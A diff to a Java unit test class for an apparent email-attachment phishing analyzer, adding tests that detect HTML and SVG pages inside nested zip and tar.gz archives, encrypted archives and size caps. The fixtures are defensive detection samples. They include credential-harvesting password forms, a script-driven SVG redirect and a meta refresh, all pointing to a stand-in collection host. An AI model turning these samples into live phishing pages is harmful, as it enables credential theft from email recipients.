@@ -10,10 +10,15 @@ import io.mamori.core.message.Envelope;
 import io.mamori.core.message.Fixtures;
 import io.mamori.core.message.MessageParser;
 import java.io.ByteArrayInputStream;
+import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.nio.charset.StandardCharsets;
 import java.time.Instant;
+import java.util.ArrayList;
+import java.util.Base64;
 import java.util.List;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipOutputStream;
 import org.junit.jupiter.api.Test;
 
 class HtmlAttachmentAnalyzerTest {
@@ -23,7 +28,7 @@ class HtmlAttachmentAnalyzerTest {
 
     private final HtmlAttachmentAnalyzer analyzer = new HtmlAttachmentAnalyzer();
 
-    private List<Finding> analyze(String fileName, String contentType, String content) throws IOException {
+    private List<Finding> analyze(String fileName, String contentType, String content) throws Exception {
         String mail = "From: a@partner.example\r\nSubject: files\r\nMIME-Version: 1.0\r\n"
                 + "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
                 + "--b\r\nContent-Type: " + contentType + "; name=\"" + fileName + "\"\r\n"
@@ -34,7 +39,7 @@ class HtmlAttachmentAnalyzerTest {
     }
 
     @Test
-    void anSvgImageWithScriptAndAPageThatRefreshesElsewhereAreActive() throws IOException {
+    void anSvgImageWithScriptAndAPageThatRefreshesElsewhereAreActive() throws Exception {
         assertThat(analyze("scan.svg", "image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg'><script>"
                 + "location.href='https://collect.example.net/?e='+atob('eA==')</script></svg>")).containsExactly(
                 Finding.of("HTML_ATTACHMENT", "scan.svg"),
@@ -46,7 +51,7 @@ class HtmlAttachmentAnalyzerTest {
     }
 
     @Test
-    void aLoginPageAttachedAsAFileIsAForm() throws IOException {
+    void aLoginPageAttachedAsAFileIsAForm() throws Exception {
         assertThat(analyze("Remittance.shtml", "text/html", "<form action='https://collect.example.net/p'>"
                 + "<input name=u><input type=password name=p></form>")).containsExactly(
                 Finding.of("HTML_ATTACHMENT", "Remittance.shtml"),
@@ -54,11 +59,150 @@ class HtmlAttachmentAnalyzerTest {
     }
 
     @Test
-    void otherAttachmentsAndHtmlBodiesAreNotHtmlFiles() throws IOException {
+    void otherAttachmentsAndHtmlBodiesAreNotHtmlFiles() throws Exception {
         assertThat(analyze("report.pdf", "application/pdf", "%PDF-1.4 <script>atob('x')</script>")).isEmpty();
         try (var parsed = Fixtures.parse("link/newsletter.eml")) {
             assertThat(analyzer.analyze(new AnalysisInput(ENVELOPE, parsed))).isEmpty();
         }
+    }
+
+    // ---- HTML and SVG files inside archives ---------------------------------------------------------------
+
+    private List<Finding> analyzeFile(String fileName, byte[] content) throws Exception {
+        return analyzeWith(analyzer, fileName, content);
+    }
+
+    private static List<Finding> analyzeWith(io.mamori.core.analysis.Analyzer a, String fileName, byte[] content)
+            throws Exception {
+        String mail = "From: a@partner.example\r\nSubject: files\r\nMIME-Version: 1.0\r\n"
+                + "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
+                + "--b\r\nContent-Type: application/octet-stream; name=\"" + fileName + "\"\r\n"
+                + "Content-Disposition: attachment; filename=\"" + fileName + "\"\r\n"
+                + "Content-Transfer-Encoding: base64\r\n\r\n" + Base64.getMimeEncoder().encodeToString(content)
+                + "\r\n--b--\r\n";
+        try (var parsed = new MessageParser().parse(new ByteArrayInputStream(mail.getBytes(StandardCharsets.UTF_8)))) {
+            return a.analyze(new AnalysisInput(ENVELOPE, parsed));
+        }
+    }
+
+    /** A zip of (name, content) pairs, deflated, as java.util.zip writes one. */
+    private static byte[] zip(Object... namesAndContents) throws IOException {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        try (ZipOutputStream zip = new ZipOutputStream(out)) {
+            for (int i = 0; i < namesAndContents.length; i += 2) {
+                zip.putNextEntry(new ZipEntry((String) namesAndContents[i]));
+                Object content = namesAndContents[i + 1];
+                zip.write(content instanceof String text ? text.getBytes(StandardCharsets.UTF_8) : (byte[]) content);
+                zip.closeEntry();
+            }
+        }
+        return out.toByteArray();
+    }
+
+    @Test
+    void aLoginPageInsideAZipIsAFormNamedByItsPathInTheArchive() throws Exception {
+        byte[] zip = zip("readme.txt", "Please open the invoice.",
+                "invoice.html", "<html><body><form action='https://collect.example.net/p'>"
+                        + "<input name=u><input type=password name=p></form></body></html>");
+        assertThat(analyzeFile("Invoice.zip", zip)).containsExactly(
+                Finding.of("HTML_ATTACHMENT", "Invoice.zip!/invoice.html"),
+                Finding.of("HTML_ATTACHMENT_FORM", "Invoice.zip!/invoice.html: password field, form to https://collect.example.net/p"));
+    }
+
+    @Test
+    void anSvgThatNavigatesByScriptInsideAZipInsideAZipIsActive() throws Exception {
+        byte[] inner = zip("docs/scan.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>"
+                + "window.location='https://collect.example.net/?e='+atob('eA==')</script></svg>");
+        byte[] outer = zip("inner.zip", inner);
+        assertThat(analyzeFile("fax.zip", outer)).containsExactly(
+                Finding.of("HTML_ATTACHMENT", "fax.zip!/inner.zip!/docs/scan.svg"),
+                Finding.of("HTML_ATTACHMENT_SCRIPT", "fax.zip!/inner.zip!/docs/scan.svg: window.location, atob"));
+    }
+
+    @Test
+    void aPageThatRefreshesElsewhereInsideAGzippedTarIsActive() throws Exception {
+        byte[] page = "<html><head><meta http-equiv='refresh' content='0;url=https://collect.example.net/'></head></html>"
+                .getBytes(StandardCharsets.UTF_8);
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        try (var tar = new org.apache.commons.compress.archivers.tar.TarArchiveOutputStream(
+                new org.apache.commons.compress.compressors.gzip.GzipCompressorOutputStream(out))) {
+            var entry = new org.apache.commons.compress.archivers.tar.TarArchiveEntry("scan/remittance.htm");
+            entry.setSize(page.length);
+            tar.putArchiveEntry(entry);
+            tar.write(page);
+            tar.closeArchiveEntry();
+        }
+        assertThat(analyzeFile("remittance.tgz", out.toByteArray())).containsExactly(
+                Finding.of("HTML_ATTACHMENT", "remittance.tgz!/remittance.tar!/scan/remittance.htm"),
+                Finding.of("HTML_ATTACHMENT_SCRIPT", "remittance.tgz!/remittance.tar!/scan/remittance.htm: meta refresh"));
+    }
+
+    @Test
+    void anOrdinaryNewsletterPageInsideAZipIsAnHtmlFileWithoutFormOrScript() throws Exception {
+        byte[] zip = zip("newsletter-2024-04.html", "<html><head><meta charset='utf-8'><title>4月号</title></head><body>"
+                + "<h1>社内報 4月号</h1><p>新しい仲間を紹介します。</p><a href='https://www.example.co.jp/news'>続きを読む</a>"
+                + "<img src='logo.png' alt=''></body></html>", "logo.png", new byte[] {(byte) 0x89, 'P', 'N', 'G'});
+        assertThat(analyzeFile("newsletter.zip", zip)).containsExactly(
+                Finding.of("HTML_ATTACHMENT", "newsletter.zip!/newsletter-2024-04.html"));
+    }
+
+    @Test
+    void aZipWithoutPagesAndAnEncryptedZipWithAPageYieldNothingHereAndTheEncryptedOneStaysEncrypted() throws Exception {
+        assertThat(analyzeFile("photos.zip", zip("a.jpg", new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, 0},
+                "notes.txt", "<form><input type=password></form>"))).isEmpty();
+
+        // ZipCrypto encrypts contents, not names: the encryption flag on a deflated entry makes it one to readers
+        byte[] zip = zip("login.html", "<form action='https://collect.example.net/p'><input type=password></form>");
+        zip[6] |= 1;
+        for (int i = 0; i + 8 < zip.length; i++) {
+            if (zip[i] == 'P' && zip[i + 1] == 'K' && zip[i + 2] == 1 && zip[i + 3] == 2) {
+                zip[i + 8] |= 1;
+            }
+        }
+        assertThat(analyzeFile("secret.zip", zip)).isEmpty();
+        assertThat(analyzeWith(new AttachmentContentAnalyzer(), "secret.zip", zip))
+                .containsExactly(Finding.of("ENCRYPTED_ARCHIVE", "secret.zip (part 2)"));
+    }
+
+    @Test
+    void tenThousandPagesInAZipAreExaminedOnlyUpToTheCap() throws Exception {
+        Object[] entries = new Object[20_000];
+        for (int i = 0; i < 10_000; i++) {
+            entries[2 * i] = "p" + i + ".html";
+            entries[2 * i + 1] = "<form><input type=password></form>";
+        }
+        List<Finding> findings = analyzeFile("many.zip", zip(entries));
+        assertThat(findings).extracting(Finding::code).containsExactly("HTML_ATTACHMENT", "HTML_ATTACHMENT_FORM");
+        assertThat(findings.get(0).evidence().split("; ")).hasSize(HtmlAttachmentAnalyzer.MAX_FILES)
+                .startsWith("many.zip!/p0.html").endsWith("many.zip!/p" + (HtmlAttachmentAnalyzer.MAX_FILES - 1) + ".html");
+        assertThat(findings.get(1).evidence().split("; ")).hasSize(HtmlAttachmentAnalyzer.MAX_FILES);
+    }
+
+    @Test
+    void theBytesHandedOverFromArchivesAreCappedPerMessage() throws Exception {
+        byte[] page = ("<p>" + "x".repeat(3000) + "</p>").getBytes(StandardCharsets.UTF_8);
+        byte[] zip = zip("a.html", page, "b.html", page, "c.html", page);
+        List<String> seen = new ArrayList<>();
+        List<Boolean> complete = new ArrayList<>();
+        ArchiveContents contents = new ArchiveContents(ArchiveLimits.defaults(),
+                java.util.Map.of(ArchiveContents.Type.HTML, 2000), 5000);
+        boolean more = contents.walk("z.zip", "z.zip", new ByteArrayInputStream(zip), f -> {
+            seen.add(f.path() + " " + f.bytes().length);
+            complete.add(f.complete());
+            return true;
+        });
+        // each file cut at 2000 bytes, the third at what is left of 5000, and then the walk ends
+        assertThat(seen).containsExactly("z.zip!/a.html 2000", "z.zip!/b.html 2000", "z.zip!/c.html 1000");
+        assertThat(complete).containsExactly(false, false, false);
+        assertThat(more).isFalse();
+        assertThat(contents.walk("y.zip", "y.zip", new ByteArrayInputStream(zip), f -> true)).isFalse();
+
+        // a walk whose deadline has passed hands nothing over and ends
+        ArchiveContents late = new ArchiveContents(ArchiveLimits.defaults(),
+                java.util.Map.of(ArchiveContents.Type.HTML, 2000), 5000, System.nanoTime() - 1);
+        List<String> none = new ArrayList<>();
+        assertThat(late.walk("z.zip", "z.zip", new ByteArrayInputStream(zip), f -> none.add(f.path()))).isFalse();
+        assertThat(none).isEmpty();
     }
 
     @Test
